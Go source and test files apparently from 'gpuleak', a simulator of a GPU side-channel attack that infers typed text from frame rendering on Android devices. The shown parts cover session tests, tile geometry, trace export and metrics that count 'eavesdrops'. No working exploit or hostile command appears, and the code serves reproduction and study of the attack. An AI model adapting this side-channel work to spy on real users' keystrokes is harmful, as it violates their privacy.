	lower.Run(input.Typing("aa", input.Volunteers[0], input.SpeedSlow, r, 500*sim.Millisecond))

	upper := New(cfg)
	r2 := sim.NewRand(6)
	upper.Run(input.Typing("aA", input.Volunteers[0], input.SpeedSlow, r2, 500*sim.Millisecond))
	// The uppercase run needs at least one extra page-switch redraw frame.
	if upper.GPU.FrameCount() <= lower.GPU.FrameCount() {
		t.Fatalf("page switch frame missing: %d vs %d", upper.GPU.FrameCount(), lower.GPU.FrameCount())
	}
}

func TestAnimatedAppEmitsContinuousFrames(t *testing.T) {
	cfg := baseConfig()
	cfg.App = android.PNC
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	s := runSession(t, cfg, "ab")
	plain := baseConfig()
	plain.NotifPerMinute = -1
	plain.DisableCursorBlink = true
	p := runSession(t, plain, "ab")
	if s.GPU.FrameCount() < p.GPU.FrameCount()+8 {
		t.Fatalf("PNC animation frames missing: %d vs %d", s.GPU.FrameCount(), p.GPU.FrameCount())
	}
}

func TestDeterministicAcrossRuns(t *testing.T) {
	a := runSession(t, baseConfig(), "determinism")
	b := runSession(t, baseConfig(), "determinism")
	if a.GPU.FrameCount() != b.GPU.FrameCount() {
		t.Fatal("frame counts differ across identical runs")
	}
	fa, _ := a.Open()
	fb, _ := b.Open()
	if err := fa.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	if err := fb.ReserveSelected(0); err != nil {
		t.Fatal(err)
	}
	va, _ := fa.ReadSelected(a.End)
	vb, _ := fb.ReadSelected(b.End)
	if va != vb {
		t.Fatal("final counter values differ across identical runs")
	}
}

func TestPowerModel(t *testing.T) {
	pm := DefaultPowerModel()
	// Faster polling costs more.
	fast := pm.DrainMilliwatts(4 * sim.Millisecond)
	slow := pm.DrainMilliwatts(32 * sim.Millisecond)
	if fast <= slow {
		t.Fatalf("polling rate has no cost: %v vs %v", fast, slow)
	}
	// 2h of default-rate monitoring stays within the paper's <=~4% bound.
	for _, dev := range []android.DeviceModel{android.LGV30, android.OnePlus8Pro, android.Pixel2, android.OnePlus7Pro} {
		pct := pm.ExtraBatteryPercent(dev, 8*sim.Millisecond, 2*sim.Hour)
		if pct <= 0 || pct > 4.5 {
			t.Errorf("%s: 2h battery cost %v%% out of regime", dev.Name, pct)
		}
	}
	// Degenerate interval does not divide by zero.
	if pm.DrainMilliwatts(0) <= 0 {
		t.Fatal("zero-interval drain")
	}
	// Bigger battery, smaller percentage.
	big := pm.ExtraBatteryPercent(android.OnePlus8Pro, 8*sim.Millisecond, sim.Hour)
	small := pm.ExtraBatteryPercent(android.Pixel2, 8*sim.Millisecond, sim.Hour)
	if big >= small {
		t.Fatalf("battery size ordering wrong: %v vs %v", big, small)
	}
}

func TestAutofillSingleEchoFrame(t *testing.T) {
	cfg := baseConfig()
	cfg.Autofill = true
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	s := runSession(t, cfg, "filled99")
	if got := s.TypedText(); got != "filled99" {
		t.Fatalf("TypedText = %q", got)
	}
	// Launch + exactly one echo frame: no popups, no dismissals.
	if n := s.GPU.FrameCount(); n != 2 {
		t.Fatalf("autofill produced %d frames, want 2 (launch + fill)", n)
	}
}

func TestPreLaunchForeignPhase(t *testing.T) {
	cfg := baseConfig()
	cfg.PreLaunch = 4 * sim.Second
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	s := New(cfg)
	script := input.Typing("after", input.Volunteers[0], input.SpeedAny,
		sim.NewRand(2), cfg.PreLaunch+800*sim.Millisecond)
	s.Run(script)
	if s.LaunchAt < cfg.PreLaunch {
		t.Fatalf("launch at %v, want after pre-launch phase", s.LaunchAt)
	}
	// Foreign frames exist before the launch.
	foreign := 0
	for _, f := range s.GPU.Frames() {
		if f.Start < s.LaunchAt-300*sim.Millisecond {
			foreign++
		}
	}
	if foreign == 0 {
		t.Fatal("no foreign-app frames before launch")
	}
	if got := s.TypedText(); got != "after" {
		t.Fatalf("TypedText = %q", got)
	}
}
