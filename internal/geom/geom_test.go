package geom

import (
	"testing"
	"testing/quick"
)

func TestRectBasics(t *testing.T) {
	r := XYWH(10, 20, 30, 40)
	if r.W() != 30 || r.H() != 40 || r.Area() != 1200 {
		t.Fatalf("bad dims: %v", r)
	}
	if r.Empty() {
		t.Fatal("non-empty rect reported empty")
	}
	if !(Rect{5, 5, 5, 9}).Empty() {
		t.Fatal("zero-width rect not empty")
	}
	if got := r.String(); got != "[10,20 30x40]" {
		t.Fatalf("String = %q", got)
	}
}

func TestIntersect(t *testing.T) {
	a := XYWH(0, 0, 10, 10)
	b := XYWH(5, 5, 10, 10)
	got := a.Intersect(b)
	want := Rect{5, 5, 10, 10}
	if got != want {
		t.Fatalf("Intersect = %v, want %v", got, want)
	}
	if !a.Overlaps(b) {
		t.Fatal("Overlaps = false")
	}
	c := XYWH(100, 100, 5, 5)
	if !a.Intersect(c).Empty() {
		t.Fatal("disjoint intersect not empty")
	}
	if a.Overlaps(c) {
		t.Fatal("disjoint rects overlap")
	}
}

func TestContains(t *testing.T) {
	outer := XYWH(0, 0, 100, 100)
	if !outer.Contains(XYWH(10, 10, 20, 20)) {
		t.Fatal("inner rect not contained")
	}
	if outer.Contains(XYWH(90, 90, 20, 20)) {
		t.Fatal("overhanging rect contained")
	}
	if !outer.Contains(Rect{}) {
		t.Fatal("empty rect must be contained anywhere")
	}
}

func TestUnion(t *testing.T) {
	a := XYWH(0, 0, 10, 10)
	b := XYWH(20, 20, 5, 5)
	got := a.Union(b)
	if got != (Rect{0, 0, 25, 25}) {
		t.Fatalf("Union = %v", got)
	}
	if a.Union(Rect{}) != a || (Rect{}).Union(a) != a {
		t.Fatal("union with empty must be identity")
	}
}

func TestInsetTranslate(t *testing.T) {
	r := XYWH(10, 10, 20, 20)
	if r.Inset(5) != (Rect{15, 15, 25, 25}) {
		t.Fatalf("Inset = %v", r.Inset(5))
	}
	if r.Translate(3, -2) != (Rect{13, 8, 33, 28}) {
		t.Fatalf("Translate = %v", r.Translate(3, -2))
	}
}

func TestTilesAligned(t *testing.T) {
	// 16x16 rect on an 8x8 grid aligned at origin: 4 tiles, all full.
	tc := Tiles(XYWH(0, 0, 16, 16), 8, 8)
	if tc.Touched != 4 || tc.Full != 4 || tc.Partial() != 0 {
		t.Fatalf("aligned: %+v", tc)
	}
}

func TestTilesUnaligned(t *testing.T) {
	// Shifted by 4px: touches 3x3 tiles, none fully covered except center.
	tc := Tiles(XYWH(4, 4, 16, 16), 8, 8)
	if tc.Touched != 9 {
		t.Fatalf("touched = %d, want 9", tc.Touched)
	}
	if tc.Full != 1 {
		t.Fatalf("full = %d, want 1", tc.Full)
	}
}

func TestTilesThin(t *testing.T) {
	// A 2px-tall strip never fully covers an 8x8 tile.
	tc := Tiles(XYWH(0, 3, 64, 2), 8, 8)
	if tc.Full != 0 {
		t.Fatalf("thin strip full = %d", tc.Full)
	}
	if tc.Touched != 8 {
		t.Fatalf("thin strip touched = %d", tc.Touched)
	}
}

func TestTiles8x4(t *testing.T) {
	tc := Tiles(XYWH(0, 0, 8, 8), 8, 4)
	if tc.Touched != 2 || tc.Full != 2 {
		t.Fatalf("8x4: %+v", tc)
	}
}

func TestTilesEmpty(t *testing.T) {
	if Tiles(Rect{}, 8, 8) != (TileCount{}) {
		t.Fatal("empty rect produced tiles")
	}
}

// Property: Full <= Touched, and Touched*tileArea >= rect area.
func TestTilesProperty(t *testing.T) {
	f := func(x, y uint8, w, h uint8) bool {
		r := XYWH(int(x), int(y), int(w)+1, int(h)+1)
		tc := Tiles(r, 8, 8)
		if tc.Full > tc.Touched {
			return false
		}
		if tc.Touched*64 < r.Area() {
			return false
		}
		if tc.Full*64 > r.Area() {
			return false
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: intersection is commutative and contained in both operands.
func TestIntersectProperty(t *testing.T) {
	f := func(ax, ay, aw, ah, bx, by, bw, bh uint8) bool {
		a := XYWH(int(ax), int(ay), int(aw), int(ah))
		b := XYWH(int(bx), int(by), int(bw), int(bh))
		i1 := a.Intersect(b)
		i2 := b.Intersect(a)
		if i1 != i2 {
			return false
		}
		if !i1.Empty() && (!a.Contains(i1) || !b.Contains(i1)) {
			return false
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestScaleRectF(t *testing.T) {
	box := XYWH(100, 200, 100, 100)
	r := RectF{0.1, 0.2, 0.5, 0.9}.Scale(box)
	want := Rect{110, 220, 150, 290}
	if r != want {
		t.Fatalf("Scale = %v, want %v", r, want)
	}
	// Hairline strokes widen to >= 1px.
	hl := RectF{0.5, 0.0, 0.5, 1.0}.Scale(box)
	if hl.W() < 1 {
		t.Fatalf("hairline width = %d", hl.W())
	}
}

func TestFloorCeilDiv(t *testing.T) {
	cases := []struct{ a, b, floor, ceil int }{
		{7, 8, 0, 1}, {8, 8, 1, 1}, {-1, 8, -1, 0}, {0, 8, 0, 0}, {-8, 8, -1, -1},
	}
	for _, c := range cases {
		if got := floorDiv(c.a, c.b); got != c.floor {
			t.Errorf("floorDiv(%d,%d) = %d, want %d", c.a, c.b, got, c.floor)
		}
		if got := ceilDiv(c.a, c.b); got != c.ceil {
			t.Errorf("ceilDiv(%d,%d) = %d, want %d", c.a, c.b, got, c.ceil)
		}
	}
}
