// Package geom provides integer pixel geometry: rectangles, sizes, and the
// tile-grid arithmetic used by the tile-based renderer to account for GPU
// overdraw exactly (full tiles, partial tiles, supertiles).
package geom

import "fmt"

// Size is a width/height pair in pixels.
type Size struct {
	W, H int
}

func (s Size) String() string { return fmt.Sprintf("%dx%d", s.W, s.H) }

// Area returns W*H.
func (s Size) Area() int { return s.W * s.H }

// Rect is a half-open pixel rectangle [X0,X1) x [Y0,Y1).
type Rect struct {
	X0, Y0, X1, Y1 int
}

// XYWH builds a rectangle from origin and size.
func XYWH(x, y, w, h int) Rect { return Rect{x, y, x + w, y + h} }

// Empty reports whether r covers no pixels.
func (r Rect) Empty() bool { return r.X1 <= r.X0 || r.Y1 <= r.Y0 }

// W returns the width (0 if empty).
func (r Rect) W() int {
	if r.Empty() {
		return 0
	}
	return r.X1 - r.X0
}

// H returns the height (0 if empty).
func (r Rect) H() int {
	if r.Empty() {
		return 0
	}
	return r.Y1 - r.Y0
}

// Area returns the covered pixel count.
func (r Rect) Area() int { return r.W() * r.H() }

// Intersect returns the intersection of r and o (possibly empty).
func (r Rect) Intersect(o Rect) Rect {
	out := Rect{
		X0: max(r.X0, o.X0),
		Y0: max(r.Y0, o.Y0),
		X1: min(r.X1, o.X1),
		Y1: min(r.Y1, o.Y1),
	}
	if out.Empty() {
		return Rect{}
	}
	return out
}

// Union returns the bounding box of r and o.
func (r Rect) Union(o Rect) Rect {
	if r.Empty() {
		return o
	}
	if o.Empty() {
		return r
	}
	return Rect{
		X0: min(r.X0, o.X0),
		Y0: min(r.Y0, o.Y0),
		X1: max(r.X1, o.X1),
		Y1: max(r.Y1, o.Y1),
	}
}

// Contains reports whether o lies entirely within r.
func (r Rect) Contains(o Rect) bool {
	if o.Empty() {
		return true
	}
	return r.X0 <= o.X0 && r.Y0 <= o.Y0 && r.X1 >= o.X1 && r.Y1 >= o.Y1
}

// Overlaps reports whether r and o share at least one pixel.
func (r Rect) Overlaps(o Rect) bool { return !r.Intersect(o).Empty() }

// Inset shrinks the rectangle by d on every side.
func (r Rect) Inset(d int) Rect { return Rect{r.X0 + d, r.Y0 + d, r.X1 - d, r.Y1 - d} }

// Translate shifts the rectangle by (dx, dy).
func (r Rect) Translate(dx, dy int) Rect {
	return Rect{r.X0 + dx, r.Y0 + dy, r.X1 + dx, r.Y1 + dy}
}

func (r Rect) String() string {
	return fmt.Sprintf("[%d,%d %dx%d]", r.X0, r.Y0, r.W(), r.H())
}

// RectF is a rectangle in normalized (em) coordinates, used by glyph stroke
// tables. Scale maps it onto pixels.
type RectF struct {
	X0, Y0, X1, Y1 float64
}

// Scale maps the normalized rectangle into a pixel rect of the given box.
// Degenerate results are widened to at least one pixel so hairline strokes
// still rasterize, as real GPUs do with conservative rasterization of text.
func (r RectF) Scale(box Rect) Rect {
	w := float64(box.W())
	h := float64(box.H())
	out := Rect{
		X0: box.X0 + int(r.X0*w),
		Y0: box.Y0 + int(r.Y0*h),
		X1: box.X0 + int(r.X1*w),
		Y1: box.Y0 + int(r.Y1*h),
	}
	if out.X1 <= out.X0 {
		out.X1 = out.X0 + 1
	}
	if out.Y1 <= out.Y0 {
		out.Y1 = out.Y0 + 1
	}
	return out
}

// TileCount describes how a rectangle lands on a tile grid.
type TileCount struct {
	Touched int // tiles overlapping the rect at all
	Full    int // tiles entirely inside the rect
}

// Partial returns the boundary tiles (touched but not fully covered).
func (t TileCount) Partial() int { return t.Touched - t.Full }

// Tiles computes, analytically, how r covers a grid of tw x th tiles
// anchored at the origin. This is the exact arithmetic a binning GPU
// performs when assigning primitives to tiles.
func Tiles(r Rect, tw, th int) TileCount {
	if r.Empty() || tw <= 0 || th <= 0 {
		return TileCount{}
	}
	touchedX := ceilDiv(r.X1, tw) - floorDiv(r.X0, tw)
	touchedY := ceilDiv(r.Y1, th) - floorDiv(r.Y0, th)
	fullX := floorDiv(r.X1, tw) - ceilDiv(r.X0, tw)
	fullY := floorDiv(r.Y1, th) - ceilDiv(r.Y0, th)
	if fullX < 0 {
		fullX = 0
	}
	if fullY < 0 {
		fullY = 0
	}
	return TileCount{Touched: touchedX * touchedY, Full: fullX * fullY}
}

func floorDiv(a, b int) int {
	q := a / b
	if a%b != 0 && (a < 0) != (b < 0) {
		q--
	}
	return q
}

func ceilDiv(a, b int) int { return -floorDiv(-a, b) }
