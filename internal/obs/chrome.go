package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
)

// chromeEvent is one entry of the Chrome trace-event format, the JSON
// schema Perfetto and chrome://tracing load natively. Spans map to
// "complete" (ph "X") events and instants to thread-scoped "i" events;
// each obs track becomes a named thread so parallel offline tasks and
// per-trial engines render as side-by-side swimlanes.
type chromeEvent struct {
	Name  string         `json:"name"`
	Phase string         `json:"ph"`
	TS    int64          `json:"ts"`
	Dur   int64          `json:"dur,omitempty"`
	PID   int            `json:"pid"`
	TID   int            `json:"tid"`
	Scope string         `json:"s,omitempty"`
	Args  map[string]any `json:"args,omitempty"`
}

const chromePID = 1

// WriteChromeTrace serializes events as a Chrome trace-event JSON object
// ({"traceEvents": [...]}). Track-to-tid assignment follows first
// appearance in the (already deterministic) event order, with metadata
// records naming each thread, so the output is as reproducible as the
// JSONL stream. Timestamps pass through unscaled: sim.Time is already in
// microseconds, the unit the format expects.
func WriteChromeTrace(w io.Writer, events []Event) error {
	bw := bufio.NewWriter(w)
	if _, err := io.WriteString(bw, `{"displayTimeUnit":"ms","traceEvents":[`); err != nil {
		return err
	}
	first := true
	emit := func(ce chromeEvent) error {
		if !first {
			if err := bw.WriteByte(','); err != nil {
				return err
			}
		}
		first = false
		b, err := json.Marshal(&ce)
		if err != nil {
			return err
		}
		_, err = bw.Write(b)
		return err
	}

	tids := map[string]int{}
	order := []string{}
	for _, e := range events {
		if _, ok := tids[e.Track]; !ok {
			tids[e.Track] = len(tids) + 1
			order = append(order, e.Track)
		}
	}
	if err := emit(chromeEvent{Name: "process_name", Phase: "M", PID: chromePID,
		Args: map[string]any{"name": "gpuleak"}}); err != nil {
		return err
	}
	for _, track := range order {
		if err := emit(chromeEvent{Name: "thread_name", Phase: "M", PID: chromePID,
			TID: tids[track], Args: map[string]any{"name": track}}); err != nil {
			return err
		}
	}
	for i, e := range events {
		ce := chromeEvent{
			Name: string(e.Name),
			TS:   int64(e.At),
			PID:  chromePID,
			TID:  tids[e.Track],
		}
		if e.Dur > 0 {
			ce.Phase = "X"
			ce.Dur = int64(e.Dur)
		} else {
			ce.Phase = "i"
			ce.Scope = "t"
		}
		if len(e.Fields) > 0 {
			ce.Args = make(map[string]any, len(e.Fields))
			for _, f := range e.Fields {
				if f.IsNum {
					ce.Args[f.Key] = f.Num
				} else {
					ce.Args[f.Key] = f.Str
				}
			}
		}
		if err := emit(ce); err != nil {
			return fmt.Errorf("obs: writing chrome event %d: %w", i, err)
		}
	}
	if _, err := io.WriteString(bw, "]}\n"); err != nil {
		return err
	}
	return bw.Flush()
}
