package obs

import (
	"context"
	"fmt"

	"gpuleak/internal/sim"
)

// TraceContext identifies one request's position in a distributed trace,
// W3C trace-context style: a 16-byte trace id shared by every span of the
// request and an 8-byte span id per operation. Both ids are minted from
// the request's seeded RNG (never from wall clock or crypto/rand), so a
// fixed request seed yields the same trace id on every process that
// handles it — the router and a failover replica agree on the trace
// without coordination, and exported traces are byte-identical at any
// worker count.
//
// The zero TraceContext is "no trace"; Valid reports false for it.
type TraceContext struct {
	// TraceID is 32 lowercase hex digits, never all-zero.
	TraceID string
	// SpanID is 16 lowercase hex digits, never all-zero.
	SpanID string
	// ParentID is the 16-hex-digit parent span id ("" on a root span).
	ParentID string
	// Remote marks a context parsed off the wire (a traceparent header or
	// SSE comment frame) rather than minted locally: the receiving process
	// records a hop event for it, and Child clears it again.
	Remote bool
}

// traceVersion is the only traceparent version this repo speaks; the
// trailing flags byte is always "sampled" (01) — deterministic traces are
// cheap enough to keep.
const traceVersion = "00"

// NewTrace mints a root trace context from a request seed. The draw uses
// a dedicated sim.Rand so minting never perturbs the attack's own random
// stream, and the mapping seed → ids is pure: every process that derives
// a trace from the same seed gets the same ids.
func NewTrace(seed int64) TraceContext {
	r := sim.NewRand(seed)
	hi, lo := r.Uint64(), r.Uint64()
	if hi|lo == 0 {
		lo = 1 // all-zero trace ids are invalid per W3C
	}
	span := r.Uint64()
	if span == 0 {
		span = 1
	}
	return TraceContext{
		TraceID: fmt.Sprintf("%016x%016x", hi, lo),
		SpanID:  fmt.Sprintf("%016x", span),
	}
}

// Valid reports whether the context carries a usable trace id.
func (tc TraceContext) Valid() bool {
	return len(tc.TraceID) == 32 && len(tc.SpanID) == 16
}

// Child derives the span context of a named sub-operation starting at a
// simulated timestamp. The span id is a pure hash of (trace id, parent
// span id, name, at): any process replaying the same operation derives
// the same id, which is what makes cross-process span trees line up
// without an id-allocation handshake.
func (tc TraceContext) Child(name Name, at sim.Time) TraceContext {
	h := mix64(hashString(tc.TraceID) ^
		rotl64(hashString(tc.SpanID), 17) ^
		rotl64(hashString(string(name)), 31) ^
		uint64(at))
	if h == 0 {
		h = 1
	}
	return TraceContext{
		TraceID:  tc.TraceID,
		SpanID:   fmt.Sprintf("%016x", h),
		ParentID: tc.SpanID,
	}
}

// Local returns the context with the Remote mark cleared, for re-export
// after the hop has been recorded.
func (tc TraceContext) Local() TraceContext {
	tc.Remote = false
	return tc
}

// Track returns the obs track a trace's events record onto. Filtering an
// exported stream by this track yields exactly the request's trace.
func (tc TraceContext) Track() string { return "trace/" + tc.TraceID }

// Fields returns the trace correlation fields attached to span events.
func (tc TraceContext) Fields() []Field {
	f := []Field{Str("trace_id", tc.TraceID), Str("span_id", tc.SpanID)}
	if tc.ParentID != "" {
		f = append(f, Str("parent_id", tc.ParentID))
	}
	return f
}

// Traceparent renders the W3C header value: 00-<trace-id>-<span-id>-01.
func (tc TraceContext) Traceparent() string {
	return traceVersion + "-" + tc.TraceID + "-" + tc.SpanID + "-01"
}

// ParseTraceparent parses a traceparent header value. It accepts only
// version 00 with well-formed, non-zero hex ids; anything else reports
// ok == false (callers then mint a fresh trace).
func ParseTraceparent(s string) (TraceContext, bool) {
	// 00-<32 hex>-<16 hex>-<2 hex>
	if len(s) != 55 || s[2] != '-' || s[35] != '-' || s[52] != '-' {
		return TraceContext{}, false
	}
	if s[:2] != traceVersion {
		return TraceContext{}, false
	}
	traceID, spanID := s[3:35], s[36:52]
	if !isHex(traceID) || !isHex(spanID) || !isHex(s[53:]) {
		return TraceContext{}, false
	}
	if allZero(traceID) || allZero(spanID) {
		return TraceContext{}, false
	}
	return TraceContext{TraceID: traceID, SpanID: spanID, Remote: true}, true
}

func isHex(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

func allZero(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] != '0' {
			return false
		}
	}
	return true
}

// mix64 is one splitmix64 round — the same finalizer the sim RNG seeds
// with, reused here for span-id derivation.
func mix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

func rotl64(x uint64, k uint) uint64 { return (x << k) | (x >> (64 - k)) }

// hashString is FNV-1a, inlined to keep the obs package stdlib-light and
// the hash stable across Go releases.
func hashString(s string) uint64 {
	const offset, prime = 14695981039346656037, 1099511628211
	h := uint64(offset)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime
	}
	return h
}

type traceCtxKey struct{}

// WithTraceContext attaches a trace context to a request context for the
// serve → batcher → attack call chain to read back.
func WithTraceContext(ctx context.Context, tc TraceContext) context.Context {
	return context.WithValue(ctx, traceCtxKey{}, tc)
}

// TraceContextFrom extracts the trace context attached by
// WithTraceContext; ok is false when none is attached.
func TraceContextFrom(ctx context.Context) (TraceContext, bool) {
	tc, ok := ctx.Value(traceCtxKey{}).(TraceContext)
	return tc, ok && tc.Valid()
}
