package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sort"

	"gpuleak/internal/sim"
)

// jsonlEvent is the JSONL wire form of one event. Attrs marshal as a JSON
// object; encoding/json writes map keys sorted, so a given event list has
// exactly one serialization — the property the golden-stream and
// worker-count determinism tests pin.
type jsonlEvent struct {
	Seq   int            `json:"seq"`
	At    int64          `json:"at_us"`
	Dur   int64          `json:"dur_us,omitempty"`
	Name  string         `json:"name"`
	Track string         `json:"track"`
	Attrs map[string]any `json:"attrs,omitempty"`
}

// WriteJSONL serializes events as one JSON object per line, assigning
// each line its sequence number in the deterministic merged order.
func WriteJSONL(w io.Writer, events []Event) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for i, e := range events {
		je := jsonlEvent{
			Seq:   i,
			At:    int64(e.At),
			Dur:   int64(e.Dur),
			Name:  string(e.Name),
			Track: e.Track,
		}
		if len(e.Fields) > 0 {
			je.Attrs = make(map[string]any, len(e.Fields))
			for _, f := range e.Fields {
				if f.IsNum {
					je.Attrs[f.Key] = f.Num
				} else {
					je.Attrs[f.Key] = f.Str
				}
			}
		}
		if err := enc.Encode(&je); err != nil {
			return fmt.Errorf("obs: writing event %d: %w", i, err)
		}
	}
	return bw.Flush()
}

// ReadJSONL parses a stream written by WriteJSONL. Attribute maps come
// back as Fields sorted by key (the serialized order), so a parsed stream
// re-serializes byte-identically. Unknown names are accepted: a stream
// may have been written by a binary with a different registered set.
func ReadJSONL(r io.Reader) ([]Event, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 4*1024*1024)
	var out []Event
	line := 0
	for sc.Scan() {
		line++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var je jsonlEvent
		if err := json.Unmarshal(raw, &je); err != nil {
			return nil, fmt.Errorf("obs: line %d: %w", line, err)
		}
		if je.Name == "" {
			return nil, fmt.Errorf("obs: line %d: event has no name", line)
		}
		if je.Dur < 0 {
			return nil, fmt.Errorf("obs: line %d: negative span duration %d", line, je.Dur)
		}
		e := Event{
			At:    sim.Time(je.At),
			Dur:   sim.Time(je.Dur),
			Name:  Name(je.Name),
			Track: je.Track,
		}
		if len(je.Attrs) > 0 {
			keys := make([]string, 0, len(je.Attrs))
			for k := range je.Attrs {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				switch v := je.Attrs[k].(type) {
				case string:
					e.Fields = append(e.Fields, Str(k, v))
				case float64:
					e.Fields = append(e.Fields, Num(k, v))
				default:
					return nil, fmt.Errorf("obs: line %d: attr %q has unsupported type %T", line, k, v)
				}
			}
		}
		out = append(out, e)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("obs: reading stream: %w", err)
	}
	return out, nil
}
