package obs

import (
	"bytes"
	"math"
	"strings"
	"testing"
)

// TestSnapshotBucketSeries pins the flat-key bucket encoding satellite 2
// adds: cumulative counts under <name>_bucket_le_<boundary>, one key per
// fixed boundary, byte-stable through WriteSnapshotJSON.
func TestSnapshotBucketSeries(t *testing.T) {
	m := NewMetrics()
	for _, v := range []float64{0.5, 3, 3, 40, 70000} {
		m.Observe("lat", v)
	}
	snap := m.Snapshot()
	if snap["lat_bucket_le_1"] != 1 {
		t.Fatalf("le_1 = %v, want 1", snap["lat_bucket_le_1"])
	}
	if snap["lat_bucket_le_5"] != 3 {
		t.Fatalf("le_5 = %v, want 3 (cumulative)", snap["lat_bucket_le_5"])
	}
	if snap["lat_bucket_le_50"] != 4 {
		t.Fatalf("le_50 = %v, want 4", snap["lat_bucket_le_50"])
	}
	// The overflow sample (70000 > last boundary) appears only in .count.
	if snap["lat_bucket_le_60000"] != 4 || snap["lat.count"] != 5 {
		t.Fatalf("overflow handling: le_60000=%v count=%v", snap["lat_bucket_le_60000"], snap["lat.count"])
	}
	for _, b := range DefaultBuckets {
		if _, ok := snap["lat_bucket_le_"+bucketLabel(b)]; !ok {
			t.Fatalf("missing bucket key for boundary %v", b)
		}
	}
	// Two registries fed the same samples render byte-identically.
	m2 := NewMetrics()
	for _, v := range []float64{70000, 40, 3, 3, 0.5} { // different order
		m2.Observe("lat", v)
	}
	var a, b bytes.Buffer
	if err := m.WriteJSON(&a); err != nil {
		t.Fatal(err)
	}
	if err := m2.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatalf("snapshot JSON order-dependent:\n%s\nvs\n%s", a.String(), b.String())
	}
}

// TestExemplarRetention pins the deterministic exemplar rule: a bucket
// keeps its largest sample's trace id, ties breaking toward the smaller
// trace id regardless of arrival order.
func TestExemplarRetention(t *testing.T) {
	m := NewMetrics()
	m.ObserveExemplar("lat", 3, "trace-b")
	m.ObserveExemplar("lat", 4, "trace-c") // larger value wins the 2.5–5 bucket
	m.ObserveExemplar("lat", 4, "trace-a") // tie: smaller trace id wins
	m.ObserveExemplar("lat", 80000, "trace-inf")
	var buf bytes.Buffer
	if err := m.WriteProm(&buf, nil); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.Contains(out, `gpuleak_lat_bucket{le="5"} 3 # {trace_id="trace-a"} 4`) {
		t.Fatalf("exemplar not retained deterministically:\n%s", out)
	}
	if strings.Contains(out, "trace-inf") {
		t.Fatalf("overflow sample produced an exemplar:\n%s", out)
	}
}

// TestWritePromRendering pins the text exposition shape for all three
// families (gauge, counter, histogram) on a small fixed registry.
func TestWritePromRendering(t *testing.T) {
	m := NewMetrics()
	m.Add("serve.eavesdrops", 2)
	m.ObserveExemplar("serve.latency_ms.eavesdrop", 750, "0af7651916cd43dd8448eb211c80319c")
	var buf bytes.Buffer
	if err := m.WriteProm(&buf, map[string]float64{"serve.inflight": 1}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"# TYPE gpuleak_serve_inflight gauge\ngpuleak_serve_inflight 1\n",
		"# TYPE gpuleak_serve_eavesdrops counter\ngpuleak_serve_eavesdrops 2\n",
		"# TYPE gpuleak_serve_latency_ms_eavesdrop histogram\n",
		`gpuleak_serve_latency_ms_eavesdrop_bucket{le="500"} 0` + "\n",
		`gpuleak_serve_latency_ms_eavesdrop_bucket{le="1000"} 1 # {trace_id="0af7651916cd43dd8448eb211c80319c"} 750` + "\n",
		`gpuleak_serve_latency_ms_eavesdrop_bucket{le="+Inf"} 1` + "\n",
		"gpuleak_serve_latency_ms_eavesdrop_sum 750\n",
		"gpuleak_serve_latency_ms_eavesdrop_count 1\n",
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("prom exposition missing %q in:\n%s", want, out)
		}
	}
	// Rendering is deterministic.
	var again bytes.Buffer
	if err := m.WriteProm(&again, map[string]float64{"serve.inflight": 1}); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf.Bytes(), again.Bytes()) {
		t.Fatal("prom rendering not byte-stable")
	}
	// A nil registry renders gauges only.
	var nilBuf bytes.Buffer
	var nilM *Metrics
	if err := nilM.WriteProm(&nilBuf, map[string]float64{"up": 1}); err != nil {
		t.Fatal(err)
	}
	if got := nilBuf.String(); got != "# TYPE gpuleak_up gauge\ngpuleak_up 1\n" {
		t.Fatalf("nil registry prom output:\n%s", got)
	}
}

// TestHistogramFromSnapshotAndQuantile pins the scrape-side math
// gpuleakstat runs: reassembling a bucket series from flat keys and
// estimating quantiles by in-bucket interpolation.
func TestHistogramFromSnapshotAndQuantile(t *testing.T) {
	m := NewMetrics()
	for i := 0; i < 90; i++ {
		m.Observe("lat", 4) // 2.5–5 bucket
	}
	for i := 0; i < 10; i++ {
		m.Observe("lat", 200) // 100–250 bucket
	}
	bs, ok := HistogramFromSnapshot(m.Snapshot(), "lat")
	if !ok {
		t.Fatal("histogram not found in snapshot")
	}
	if len(bs.Bounds) != len(DefaultBuckets) || bs.Count != 100 {
		t.Fatalf("series shape: %d bounds, count %v", len(bs.Bounds), bs.Count)
	}
	if !sortedAscending(bs.Bounds) {
		t.Fatalf("bounds unsorted: %v", bs.Bounds)
	}
	p50 := bs.Quantile(0.50)
	if p50 < 2.5 || p50 > 5 {
		t.Fatalf("p50 = %v, want within the 2.5–5 bucket", p50)
	}
	p99 := bs.Quantile(0.99)
	if p99 < 100 || p99 > 250 {
		t.Fatalf("p99 = %v, want within the 100–250 bucket", p99)
	}
